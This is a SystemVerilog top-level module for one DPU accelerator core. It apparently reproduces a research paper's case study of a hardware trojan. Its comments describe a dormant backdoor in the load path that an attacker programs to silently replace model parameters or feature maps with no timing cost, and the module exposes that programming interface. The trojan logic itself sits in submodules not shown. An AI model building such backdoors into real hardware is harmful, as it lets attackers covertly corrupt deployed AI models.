// dpu_core -- top level: the data-loading path of one DPU core with the
// dormant, programmable backdoor trojan.
//
// Contents: the LOAD engine (memory reader with trojan, write controller)
// and the on-chip RAM (34 banks x 2048 lines x 16 bytes). Load instructions
// move model parameters and feature maps from shared memory into the RAM.
// Once the trojan has been programmed with target addresses, line masks and
// replacement lines, every load instruction whose shared-memory start address
// matches a target gets the marked lines replaced on their way into the RAM;
// all other loads, and every load before programming, pass unchanged.
//
// Not contained, brought out as ports instead: the instruction scheduler
// (its load instructions enter on inst_*), shared memory (data bus rd_req_* /
// rd_rsp_*), the CONV engine, ALU and STORE engine (they read the RAM through
// ram_rd_*), and the attacker's programming path (rom_prog_*, tgt_prog_*).
//
// Timing: see mem_reader (3n + 3 cycles per n-line load with a one-cycle
// data bus), write_ctrl (one register stage) and onchip_ram (one-cycle read).
// The trojan adds no cycle. Single clock, synchronous active-low reset.
//
// The partition into LOAD engine and on-chip RAM, the single data port and
// the single-core B4096 geometry follow the paper's case study; the port
// protocols at the boundary are this design's own.
module dpu_core
  import dpu_pkg::*;
#(
  parameter  int unsigned ROM_LINES = 128,
  parameter  int unsigned N_TARGETS = 16,
  parameter  int unsigned BANKS     = NUM_BANKS,
  parameter  int unsigned LINES     = BANK_LINES,
  localparam int unsigned ROM_AW    = (ROM_LINES > 1) ? $clog2(ROM_LINES) : 1,
  localparam int unsigned TGT_IW    = (N_TARGETS > 1) ? $clog2(N_TARGETS) : 1
) (
  input  logic              clk,
  input  logic              rst_n,
  // load instructions from the instruction scheduler
  input  logic              inst_valid,
  output logic              inst_ready,
  input  load_instr_t       inst,
  output logic              load_done,
  // data bus to shared memory (read side)
  output logic              rd_req_valid,
  input  logic              rd_req_ready,
  output ddr_addr_t         rd_req_addr,
  input  logic              rd_rsp_valid,
  input  line_t             rd_rsp_data,
  // on-chip RAM read port for the compute and STORE engines
  input  logic              ram_rd_en,
  input  bank_id_t          ram_rd_bank_id,
  input  bank_addr_t        ram_rd_bank_addr,
  output logic              ram_rd_valid,
  output line_t             ram_rd_data,
  // trojan programming interface
  input  logic              rom_prog_we,
  input  logic [ROM_AW-1:0] rom_prog_addr,
  input  line_t             rom_prog_data,
  input  logic              tgt_prog_we,
  input  logic [TGT_IW-1:0] tgt_prog_idx,
  input  target_t           tgt_prog_entry,
  // observation
  output rd_state_e         reader_state,
  output logic              trojan_active,
  output logic              line_swapped,
  output logic              wr_err
);

  logic [BANKS-1:0] ram_we;
  bank_addr_t       ram_addr;
  line_t            ram_wdata;

  load_engine #(.ROM_LINES(ROM_LINES), .N_TARGETS(N_TARGETS), .BANKS(BANKS)) u_load (
    .clk            (clk),
    .rst_n          (rst_n),
    .inst_valid     (inst_valid),
    .inst_ready     (inst_ready),
    .inst           (inst),
    .load_done      (load_done),
    .rd_req_valid   (rd_req_valid),
    .rd_req_ready   (rd_req_ready),
    .rd_req_addr    (rd_req_addr),
    .rd_rsp_valid   (rd_rsp_valid),
    .rd_rsp_data    (rd_rsp_data),
    .ram_we         (ram_we),
    .ram_addr       (ram_addr),
    .ram_wdata      (ram_wdata),
    .rom_prog_we    (rom_prog_we),
    .rom_prog_addr  (rom_prog_addr),
    .rom_prog_data  (rom_prog_data),
    .tgt_prog_we    (tgt_prog_we),
    .tgt_prog_idx   (tgt_prog_idx),
    .tgt_prog_entry (tgt_prog_entry),
    .reader_state   (reader_state),
    .trojan_active  (trojan_active),
    .line_swapped   (line_swapped),
    .wr_err         (wr_err)
  );

  onchip_ram #(.BANKS(BANKS), .LINES(LINES)) u_ram (
    .clk          (clk),
    .rst_n        (rst_n),
    .ram_we       (ram_we),
    .ram_addr     (ram_addr),
    .ram_wdata    (ram_wdata),
    .rd_en        (ram_rd_en),
    .rd_bank_id   (ram_rd_bank_id),
    .rd_bank_addr (ram_rd_bank_addr),
    .rd_valid     (ram_rd_valid),
    .rd_data      (ram_rd_data)
  );

endmodule
